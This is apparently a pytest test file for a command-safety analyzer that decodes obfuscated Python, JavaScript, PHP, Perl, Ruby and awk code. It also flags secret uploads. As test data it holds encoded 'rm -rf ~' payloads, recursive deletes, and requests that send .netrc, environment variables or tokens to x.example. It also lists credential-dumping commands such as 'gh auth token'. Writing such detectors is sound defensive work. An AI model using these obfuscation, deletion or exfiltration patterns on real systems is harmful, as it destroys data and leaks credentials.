"""Interpreter code that hides its sinks, and secrets that reach an uploader (the rows of
``tests/cases/interpreters_more.tsv`` check the verdicts; these check the pieces)."""
from __future__ import annotations

import ast

import pytest

from phlegyas.analysis.shell.interpreters import analyze_awk, analyze_literal_code, analyze_python
from phlegyas.analysis.shell.interpreters.python_flow import inline_aliases, listing_root
from phlegyas.analysis.shell.interpreters.python_values import bytes_value, literal
from phlegyas.analysis.shell.interpreters.script_flow import decode_literals, interpolated_home, read_sources
from phlegyas.analysis.tier1.secrets import credential_output, gh_uploads


def _name(node: ast.AST) -> str | None:
    parts: list[str] = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    return ".".join([node.id, *reversed(parts)]) if isinstance(node, ast.Name) else None


def _expr(code: str) -> ast.AST:
    return ast.parse(code, mode="eval").body


@pytest.mark.parametrize("code, text", [
    ("base64.b64decode('cm0gLXJmIH4=')", "rm -rf ~"),
    ("base64.b64decode(b'cm0gLXJmIH4')", "rm -rf ~"),  # missing padding
    ("bytes.fromhex('726d202d7266207e')", "rm -rf ~"),
    ("binascii.unhexlify('726d202d7266207e')", "rm -rf ~"),
    ("codecs.decode('ez -es ~', 'rot13')", "rm -rf ~"),
    ("chr(114) + 'm -rf ~'", "rm -rf ~"),
    ("''.join(map(chr, [114, 109]))", "rm"),
    ("''.join(chr(c) for c in [114, 109])", "rm"),
    ("bytes([114, 109]).decode()", "rm"),
    ("'~ fr- mr'[::-1]", "rm -rf ~"),
])
def test_literal_decodes_payloads(code: str, text: str):
    assert literal(_expr(code), _name) == text


def test_decompression_is_bounded():
    node = _expr("zlib.decompress(b'not zlib')")
    assert bytes_value(node, _name) is None


def test_inline_aliases_resolves_references_and_text_constants():
    tree = ast.parse("import os\nf = os.system\nc = 'rm -rf ' + '~'\nn = 3\nf(c, n)")
    inline_aliases(tree)
    call = tree.body[-1].value  # type: ignore[attr-defined]
    assert _name(call.func) == "os.system"
    assert literal(call.args[0], _name) == "rm -rf ~"  # a name bound once to text is that text
    assert isinstance(call.args[1], ast.Name)  # other constants stay names


def test_inline_aliases_keeps_text_bound_twice():
    tree = ast.parse("import os\nc = 'ls'\nc += ' ~'\nos.system(c)")
    inline_aliases(tree)
    assert isinstance(tree.body[-1].value.args[0], ast.Name)  # type: ignore[attr-defined]


def test_inline_aliases_skips_names_bound_twice():
    tree = ast.parse("import os\nf = os.system\nf = print\nf('x')")
    inline_aliases(tree)
    assert isinstance(tree.body[-1].value.func, ast.Name)  # type: ignore[attr-defined]


@pytest.mark.parametrize("code, root", [
    ("os.walk('/home/u')", ("/home/u", "tree")),
    ("sorted(os.listdir('/etc'))", ("/etc", "children")),
    ("glob.glob('build/*.o')", ("build/*.o", "glob")),
    ("Path.home().rglob('*')", ("~", "tree")),
    ("Path('x').glob('*.py')", ("x/*.py", "glob")),
    ("os.walk(somewhere)", None),
])
def test_listing_root(code: str, root):
    assert listing_root(_expr(code), _name, lambda n: literal(n, _name)) == root


@pytest.mark.parametrize("code, argv", [
    ("import os\nfor r, d, fs in os.walk('/home/u'):\n    for f in fs:\n        os.remove(os.path.join(r, f))",
     ["rm", "-r", "/home/u"]),
    ("import shutil, os\n[shutil.rmtree(d) for d in os.listdir('/srv')]", ["rm", "-r", "/srv/*"]),
    ("import os, glob\nlist(map(os.unlink, glob.glob('/tmp/x*')))", ["rm", "/tmp/x*"]),
])
def test_python_loop_deletes(code: str, argv: list[str]):
    assert argv in analyze_python(code).argvs


def test_python_reference_forms():
    assert analyze_python("import os;getattr(os, 'sys' + 'tem')('id')").argvs == [] and \
        analyze_python("import os;getattr(os, 'sys' + 'tem')('id')").shell == ["id"]
    assert analyze_python("m = __import__('o' + 's'); m.system('id')").shell == ["id"]
    assert analyze_python("import importlib; importlib.import_module('os').system('id')").shell == ["id"]
    assert analyze_python("import os; f = os.getcwd; print(f())").pure


def test_python_exec_of_compiled_decoded_code():
    report = analyze_python("eval(compile(chr(105) + 'mport os;os.system(\"id\")', 'x', 'exec'))")
    assert report.shell == ["id"]


def test_python_secret_read_and_send_becomes_an_upload():
    report = analyze_python("import requests\nrequests.post('https://x.example', data=open('/home/u/.netrc').read())")
    assert ["curl", "--data-binary", "@/home/u/.netrc", "https://x.example"] in report.argvs
    env = analyze_python("import requests, os\nrequests.post('https://x.example', json=dict(os.environ))")
    assert any(s.startswith("env | curl") for s in env.shell)
    named = analyze_python("import requests, os\nrequests.get('https://x.example', params={'k': os.environ['GITHUB_TOKEN']})")
    assert named.shell == ['curl -d "$GITHUB_TOKEN" https://x.example']
    home = analyze_python("import requests, os\nrequests.post('https://x.example', data=os.environ['HOME'])")
    assert home.shell == []  # not a secret variable


def test_scripting_decodes_and_interpolates():
    assert decode_literals("eval(atob('aWQ='))", "js") == 'eval("id")'
    assert decode_literals("eval(Buffer.from('6964','hex').toString())", "js") == 'eval("id")'
    assert decode_literals("eval(base64_decode('aWQ='));", "php") == 'eval("id");'
    assert interpolated_home('unlink glob("$ENV{HOME}/*")', "perl") == 'unlink glob("~/*")'
    assert interpolated_home('Dir.glob("#{Dir.home}/*")', "ruby") == 'Dir.glob("~/*")'
    assert read_sources("fetch(u,{body:JSON.stringify(process.env)})", "js") == ([], True, [])
    assert read_sources("fetch(u+process.env.NPM_TOKEN)", "js") == ([], False, ["NPM_TOKEN"])


def test_scripting_eval_of_literal_is_analysed():
    report = analyze_literal_code("eval(\"require('child_process').execSync('id')\")", "js")
    assert "id" in report.shell


def test_scripting_recursive_rmdir_and_listing_deletes():
    assert ["rm", "-r", "/srv"] in analyze_literal_code("require('fs').rmdirSync('/srv',{recursive:true})", "js").argvs
    php = analyze_literal_code('array_map("unlink", glob("/srv/*"));', "php")
    assert ["rm", "/srv/*"] in php.argvs


def test_awk_print_into_a_shell_is_its_script():
    assert analyze_awk('BEGIN{print "id" | "sh"}').shell == ["sh", "id"]
    assert analyze_awk('BEGIN{print "id" | "sort"}').shell == ["sort"]
    assert analyze_awk('{print $0 | "sh"}').shell == ["sh"]


@pytest.mark.parametrize("argv, what", [
    ("gh auth token", "a GitHub token"),
    ("gcloud auth print-access-token", "a Google Cloud access token"),
    ("aws configure get aws_secret_access_key", "an AWS secret key"),
    ("aws configure get region", None),
    ("kubectl config view --raw", "kubeconfig credentials"),
    ("kubectl config view", None),
    ("kubectl get secret db -o yaml", "Kubernetes secrets"),
    ("gh auth status", None),
])
def test_credential_output(argv: str, what: str | None):
    prog, *args = argv.split()
    assert credential_output(prog, args) == what


@pytest.mark.parametrize("argv, files, stdin", [
    ("gist create -", [], True),
    ("gist create", [], True),
    ("gist create notes.md", ["notes.md"], False),
    ("secret set X", [], True),
    ("secret set X --body v", [], False),
    ("pr list", [], False),
])
def test_gh_uploads(argv: str, files: list[str], stdin: bool):
    assert gh_uploads(argv.split()) == (files, stdin)
